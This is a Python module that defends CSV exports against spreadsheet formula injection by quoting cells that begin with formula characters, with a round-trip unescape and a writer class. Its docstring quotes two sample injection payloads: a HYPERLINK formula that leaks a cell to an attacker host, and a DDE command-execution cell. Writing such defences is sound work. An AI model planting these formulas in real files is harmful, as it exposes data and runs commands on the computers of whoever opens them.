"""Cells of files people open in a spreadsheet, written so no cell runs as a formula.

Every CSV platewatch writes goes through `SpreadsheetWriter`, because the people who open the
files (auditors, HOA admins, analysts) open them in Excel, LibreOffice or Google Sheets, and
the text in them (labels, vehicle descriptions, record numbers, audit purposes, user names)
was typed by someone else. A cell such as `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C
calc'!A0` would otherwise run when the file is opened.

The rule is OWASP's (CSV Injection): a cell whose first character is `=`, `+`, `-`, `@`, a
tab or a carriage return is prefixed with a single quote `'`, which spreadsheets read as "this
is text". Exactly the first character is looked at, as OWASP says; a cell that starts with a
space before one of them (` =1+1`) is text to every spreadsheet and is left alone. Numbers
are not exempt (OWASP: `-1` is prefixed too), though no exported numeric column can be
negative today. Field separators and quotes inside a cell are the csv module's job (it quotes
such cells), so a formula cannot start mid-cell either.

So that exports which are imported back (hotlists, safe lists) return the value that was
exported, a cell that already starts with quotes followed by one of those characters
(`'=x`) gets one more quote (`''=x`), and `unescape_cell` takes exactly one quote off a cell
of one or more quotes followed by one of those characters. Between the two every text goes
out and comes back unchanged, and text such as `'Tis the season` is never touched.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: object) -> str:
    """The cell's text with a leading `'` if a spreadsheet would run it as a formula.

    None is an empty cell; anything else is written as `str(value)`."""
    text = "" if value is None else str(value)
    if text.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return QUOTE + text
    return text


def unescape_cell(text: str) -> str:
    """The value `safe_cell` was given: one `'` less on a cell it had to neutralise."""
    if text.startswith(QUOTE) and text.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return text[1:]
    return text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(v) for v in values]


class SpreadsheetWriter:
    """`csv.writer` whose every cell goes through `safe_cell`.

    The csv module quotes only cells holding a character of the line terminator, so with
    `\n` line ends a cell holding `\r` would go out bare and split the row for any reader;
    such a row is written with every cell quoted instead."""

    def __init__(self, out: TextIO, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)
        self._quoted = csv.writer(out, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)
        self._bare_cr = "\r" not in lineterminator

    def writerow(self, values: Iterable[object]) -> None:
        cells = safe_row(values)
        if self._bare_cr and any("\r" in cell for cell in cells):
            self._quoted.writerow(cells)
        else:
            self._writer.writerow(cells)
